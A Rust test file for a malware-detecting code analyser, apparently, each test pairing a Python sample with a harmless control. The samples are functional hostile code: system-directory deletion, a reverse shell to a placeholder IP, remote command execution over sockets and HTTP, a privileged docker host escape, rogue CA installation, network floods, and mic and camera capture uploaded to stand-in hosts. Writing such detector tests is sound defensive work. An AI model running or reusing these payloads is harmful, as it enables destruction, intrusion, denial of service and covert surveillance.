//! Behaviour tests for the twenty-fourth session (what the twenty-second
//! batch's held-out misses showed, written as behaviours and spelled unlike
//! them: lambdas bound to names called as functions, values handed on
//! through queues, methods held in names or picked by a name prefix,
//! modules imported by a lambda, command lists and unbracketed pairs
//! returned by helpers, commands built by functions handed in or kept in
//! tables, connection floods, a clock read through a helper), each with a
//! control, and two look-alikes the engine flagged (a write under
//! `/usr/tmp`, a calculator whose `ast` functions are renamed). Every case
//! (the `src` of each test) is misjudged by the analyser at 54ade22: the
//! malicious ones rated LOW, MEDIUM or HIGH short of their rule, the
//! look-alikes HIGH.

use super::behaviour19_tests::{caught, spared};
use super::behaviour_tests::{rules, run};
use super::Verdict;

/// The finding `rule` is not made (whatever else the control is rated).
fn lacks(src: &str, rule: &str) {
    let a = run(src);
    assert!(!rules(&a).contains(&rule), "{rule}: {:?}", a.findings);
}

/// `nuke = lambda target: shutil.rmtree(target)`: a lambda bound to a name
/// is a function of the script's own, its parameter each caller's value.
#[test]
fn system_trees_removed_by_a_lambda_helper() {
    let src = r##"import shutil
nuke = lambda target: shutil.rmtree(target, ignore_errors=True)
for place in ("/etc", "/boot", "/var/lib/dpkg"):
    nuke(place)
"##;
    caught(src, "MB907", Verdict::Blocked);
    spared(
        &src.replace(
            r##"("/etc", "/boot", "/var/lib/dpkg")"##,
            r##"("build", "dist", ".eggs")"##,
        ),
        "MB907",
    );
}

/// A walk puts every file on a queue; worker threads take them off and
/// delete them: what `inbox.get()` gives is what was put.
#[test]
fn files_handed_to_erasers_through_a_queue() {
    let src = r##"import os, queue, threading

def eraser(inbox):
    while True:
        target = inbox.get()
        try:
            os.remove(target)
        finally:
            inbox.task_done()

inbox = queue.Queue()
for _ in range(16):
    threading.Thread(target=eraser, args=(inbox,), daemon=True).start()
for base in ("/etc", "/var/lib"):
    for top, _, names in os.walk(base):
        for n in names:
            inbox.put(os.path.join(top, n))
inbox.join()
"##;
    caught(src, "MB907", Verdict::Blocked);
    spared(
        &src.replace(
            r##"("/etc", "/var/lib")"##,
            r##"("build", ".pytest_cache")"##,
        ),
        "MB907",
    );
}

/// `handler = self.run_line` then `handler(line)`: a bound method held by
/// a name is that method, called with the socket's data.
#[test]
fn socket_lines_run_by_a_method_held_in_a_name() {
    let src = r##"import socket, subprocess

class Agent:
    def __init__(self, host):
        self.sock = socket.create_connection((host, 9001))

    def run_line(self, line):
        return subprocess.check_output(line, shell=True, stderr=subprocess.STDOUT)

    def serve(self):
        handler = self.run_line
        while True:
            line = self.sock.recv(4096).decode()
            if not line:
                break
            self.sock.sendall(handler(line))

Agent("198.51.100.7").serve()
"##;
    caught(src, "MB913", Verdict::Blocked);
    spared(
        &src.replace(
            r##"            self.sock.sendall(handler(line))"##,
            r##"            self.sock.sendall(handler("uptime"))"##,
        ),
        "MB913",
    );
}

/// `getattr(self, f"op_{body['op']}")(arg)`: the request's argument
/// reaches every method named with the prefix, one of which runs a shell.
#[test]
fn request_dispatched_by_method_name_prefix() {
    let src = r##"import json, subprocess
from http.server import BaseHTTPRequestHandler, HTTPServer

class Handler(BaseHTTPRequestHandler):
    def op_exec(self, payload):
        return subprocess.run(payload, shell=True, capture_output=True).stdout

    def op_ping(self, payload):
        return b"pong"

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        action = getattr(self, f"op_{body['op']}", None)
        out = action(body.get("arg", "")) if action else b"?"
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)

HTTPServer(("0.0.0.0", 8088), Handler).serve_forever()
"##;
    caught(src, "MB913", Verdict::Blocked);
    spared(
        &src.replace(
            r##"    def op_exec(self, payload):"##,
            r##"    def exec_op(self, payload):"##,
        ),
        "MB913",
    );
}

/// `load = lambda name: __import__("".join(reversed(name)))`: the module
/// a call imports is its argument folded through the lambda's body.
#[test]
fn modules_imported_by_a_lambda_that_reverses_names() {
    let src = r##"load = lambda name: __import__("".join(reversed(name)))
runner = load("ssecorpbus")
net = load("tekcos")
s = net.socket()
s.connect(("203.0.113.9", 4444))
runner.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
"##;
    caught(src, "MB901", Verdict::Blocked);
    lacks(&src.replace(r##"runner.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())"##, r##"runner.call(["/bin/echo", "hi"])"##), "MB901");
}

/// The `docker run` line is a list a helper builds, extends and returns.
#[test]
fn privileged_host_mount_built_by_a_helper() {
    let src = r##"import subprocess, sys

def rescue_cmd(image):
    argv = ["docker", "run", "-it", "--rm", "--privileged", "-v", "/:/hostfs", image]
    argv.append("chroot")
    argv += ["/hostfs", "/bin/sh"]
    return argv

subprocess.run(rescue_cmd(sys.argv[1]))
"##;
    caught(src, "MB921", Verdict::Blocked);
    spared(
        &src.replace(
            r##""--privileged", "-v", "/:/hostfs", "##,
            r##""-v", "./data:/data", "##,
        ),
        "MB921",
    );
}

/// `return anchors, refresh` (a tuple without brackets) of loop variables
/// over a table of stores, unpacked by the caller.
#[test]
fn trust_anchor_from_a_helper_returning_an_unbracketed_pair() {
    let src = r##"import os, shutil, subprocess, sys

STORES = (
    ("/etc/pki/ca-trust/source/anchors", ["update-ca-trust"]),
    ("/usr/local/share/ca-certificates", ["update-ca-certificates"]),
)

def pick_store():
    for anchors, refresh in STORES:
        if os.path.isdir(anchors):
            return anchors, refresh
    raise SystemExit("no trust store")

anchors, refresh = pick_store()
shutil.copy(sys.argv[1], os.path.join(anchors, "extra.crt"))
subprocess.check_call(refresh)
"##;
    caught(src, "MB201", Verdict::High);
    lacks(
        &src.replace(
            r##"("/etc/pki/ca-trust/source/anchors", ["update-ca-trust"]),
    ("/usr/local/share/ca-certificates", ["update-ca-certificates"]),"##,
            r##"("certs/out", ["update-ca-trust"]),
    ("certs/alt", ["update-ca-certificates"]),"##,
        ),
        "MB201",
    );
}

/// `asyncio.open_connection` each round until a deadline, from hundreds
/// of tasks: a connection flood.
#[test]
fn connections_opened_until_a_deadline() {
    let src = r##"import asyncio, sys, time

async def storm(host):
    stop = time.perf_counter() + 300
    while time.perf_counter() < stop:
        _, w = await asyncio.open_connection(host, 443, ssl=True)
        w.close()

async def main(host):
    await asyncio.gather(*(storm(host) for _ in range(300)))

asyncio.run(main(sys.argv[1]))
"##;
    caught(src, "MB927", Verdict::Blocked);
    spared(
        &src.replace(
            r##"        w.close()
"##,
            r##"        w.close()
        await asyncio.sleep(1)
"##,
        ),
        "MB927",
    );
}

/// Each round sends a datagram and then writes a log line: the send, not
/// the write, says what the loop is.
#[test]
fn datagrams_sent_before_a_log_write() {
    let src = r##"import random, socket, sys, time

target = (sys.argv[1], 53)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
junk = random.randbytes(1400)
finish = time.monotonic() + 120
with open("storm.log", "a") as log:
    while time.monotonic() < finish:
        sock.sendto(junk, target)
        log.write("sent\n")
"##;
    caught(src, "MB927", Verdict::Blocked);
    spared(
        &src.replace(
            r##"        log.write("sent\n")
"##,
            r##"        log.write("sent\n")
        time.sleep(0.5)
"##,
        ),
        "MB927",
    );
}

/// `Thread(target=grab, args=(mic_argv, ...))` and `grab` runs
/// `make(dest, secs)`: the command is what the function handed in returns.
#[test]
fn recorder_command_built_by_a_function_handed_to_a_thread() {
    let src = r##"import os, subprocess, threading, urllib.request

def mic_argv(dest, secs):
    return ["arecord", "-q", "-f", "cd", "-d", str(secs), dest]

def grab(make, dest, secs):
    subprocess.run(make(dest, secs), check=False)
    with open(dest, "rb") as fh:
        urllib.request.urlopen("https://collect.example.org/u", data=fh.read())
    os.remove(dest)

while True:
    t = threading.Thread(target=grab, args=(mic_argv, "/tmp/.s.wav", 60))
    t.start()
    t.join()
"##;
    caught(src, "MB940", Verdict::Blocked);
    spared(
        &src.replace(
            r##"    return ["arecord", "-q", "-f", "cd", "-d", str(secs), dest]"##,
            r##"    return ["sox", "input.wav", dest, "trim", "0", str(secs)]"##,
        ),
        "MB940",
    );
}

/// `make = RECORDERS[sys.platform]` of a dict of lambdas, then
/// `run(make(out))`: each lambda's list is a command the script may run.
#[test]
fn camera_command_built_by_a_lambda_from_a_table() {
    let src = r##"import subprocess, sys, time, requests

RECORDERS = {
    "linux": lambda out: ["ffmpeg", "-f", "v4l2", "-i", "/dev/video0", "-frames:v", "1", out],
    "darwin": lambda out: ["imagesnap", "-w", "1", out],
}

def snap(out):
    make = RECORDERS[sys.platform]
    subprocess.run(make(out), capture_output=True)
    requests.post("https://cam.example.net/in", files={"f": open(out, "rb")})

while True:
    snap("/tmp/.c.jpg")
    time.sleep(300)
"##;
    caught(src, "MB940", Verdict::Blocked);
    spared(&src.replace(r##"    "linux": lambda out: ["ffmpeg", "-f", "v4l2", "-i", "/dev/video0", "-frames:v", "1", out],
    "darwin": lambda out: ["imagesnap", "-w", "1", out],"##, r##"    "linux": lambda out: ["convert", "logo.png", out],
    "darwin": lambda out: ["sips", "-s", "format", "jpeg", "logo.png", "--out", out],"##), "MB940");
}

/// A lock file under `/usr/tmp`, the old temporary directory `tempfile`
/// still lists, is no system write; one under `/usr/lib` is.
#[test]
fn lock_file_under_usr_tmp() {
    let src = r##"import os
LOCK = "/usr/tmp/report.lock"
with open(LOCK, "w") as fh:
    fh.write(str(os.getpid()))
"##;
    spared(src, "MB201");
    caught(
        &src.replace("/usr/tmp/", "/usr/lib/"),
        "MB201",
        Verdict::High,
    );
}

/// A calculator whose `ast` functions are held by other names (`each, mk =
/// ast.walk, ast.parse`): the tree is still walked with `isinstance`
/// checks before it is evaluated. The control checks nothing but a name.
#[test]
fn expression_validated_through_renamed_ast_functions() {
    let src = r##"import ast, sys
each, mk = ast.walk, ast.parse
OK = (ast.Expression, ast.BinOp, ast.UnaryOp, ast.Constant, ast.Add, ast.Sub, ast.Mult, ast.Div, ast.USub)
def calc(text):
    tree = mk(text, mode="eval")
    for node in each(tree):
        if not isinstance(node, OK):
            raise ValueError(type(node).__name__)
    return eval(compile(tree, "<calc>", "eval"))
print(calc(sys.argv[1]))
"##;
    spared(src, "MB110");
    caught(
        &src.replace(
            "        if not isinstance(node, OK):",
            r#"        if type(node).__name__ == "Call":"#,
        ),
        "MB110",
        Verdict::High,
    );
}

/// The deadline read through a pass-through helper (`_via(time.monotonic)`
/// in the loop's condition): still a loop bounded by a clock, sending
/// without a pause.
#[test]
fn datagrams_sent_until_a_clock_read_through_a_helper() {
    let src = r##"import socket, sys, time

def _via(fn, *args):
    return fn(*args)

target = (sys.argv[1], 123)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stop = _via(time.monotonic) + 90
while _via(time.monotonic) < stop:
    s.sendto(b"\x17\x00\x03\x2a" + b"\x00" * 4, target)
"##;
    caught(src, "MB927", Verdict::Blocked);
    spared(
        &src.replace(
            "    s.sendto(b\"\\x17\\x00\\x03\\x2a\" + b\"\\x00\" * 4, target)\n",
            "    s.sendto(b\"\\x17\\x00\\x03\\x2a\" + b\"\\x00\" * 4, target)\n    time.sleep(1)\n",
        ),
        "MB927",
    );
}
